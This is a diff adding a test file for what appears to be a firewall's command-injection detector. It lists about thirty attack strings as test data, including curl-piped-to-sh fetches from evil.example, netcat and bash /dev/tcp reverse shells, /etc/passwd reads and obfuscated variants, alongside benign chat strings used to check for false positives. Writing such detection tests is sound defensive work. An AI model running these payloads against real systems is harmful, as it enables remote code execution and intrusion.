@@ -1,0 +1,70 @@
+import { describe, expect, it } from 'vitest'
+import { BENIGN, p1, tagOf } from './helpers.js'
+
+const ATTACKS = [
+  ';id',
+  '|id',
+  '||whoami',
+  '&& cat /etc/passwd',
+  'a;id',
+  '`id`',
+  '$(whoami)',
+  'x$(curl http://evil.example/s.sh|sh)',
+  '; ls -la /',
+  '| nc 10.0.0.1 4444 -e /bin/sh',
+  '& ping -n 30 127.0.0.1 &',
+  '; sleep 5',
+  'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
+  'curl http://evil.example/x.sh | sh',
+  'cmd /c dir',
+  'cmd.exe /c whoami',
+  'powershell -enc SQBFAFgA',
+  '| type C:\\Windows\\win.ini',
+  'cat /etc/passwd',
+  "c'a't /etc/passwd",
+  'c\\at /etc/passwd',
+  ';${IFS}id',
+  ';cat${IFS}/etc/passwd',
+  ';cat$IFS$9/etc/passwd',
+  '{cat,/etc/passwd}',
+  '/???/c?t /???/p??s??',
+  '() { :;}; /bin/bash -c "id"',
+  '<!--#exec cmd="/bin/cat /etc/passwd"-->',
+  ';system("cat /etc/passwd")',
+  '%0Aid',
+  'netstat -an',
+]
+
+const ENCODED = ['%3Bid', '%7Cwhoami', '&#59;id', '；ｉｄ', '\\u003bid', ';i\u200bd']
+
+const CHAT = [
+  'Tom & Jerry',
+  'rock & roll; see you',
+  '$100 | $200',
+  'C#',
+  'I bought a cat; it is cute',
+  'we had more fun; sleep well',
+  'R&D; sort of done',
+  'the `ls` command lists files',
+  'use `rm -rf` with care',
+  'ping me later',
+  'cat lovers unite!',
+  'type the answer (one word)',
+]
+
+describe('cmd', () => {
+  it.each(ATTACKS)('flags %s', (s) => {
+    expect(tagOf(s)).toBe('ws-cmd-injection')
+  })
+  it.each(ENCODED)('flags encoded %s', (s) => {
+    expect(tagOf(s)).toBe('ws-cmd-injection')
+  })
+  it.each([...BENIGN, ...CHAT])('leaves %s alone at paranoia 1', (s) => {
+    expect(p1.first(s)).toBeNull()
+  })
+  it('names the rule', () => {
+    expect(p1.first(';id')?.rule).toBe('cmd-separator-command')
+    expect(p1.first('$(id)')?.rule).toBe('cmd-substitution')
+    expect(p1.first('bash -i >& /dev/tcp/1.2.3.4/1 0>&1')?.rule).toBe('cmd-reverse-shell')
+  })
+})
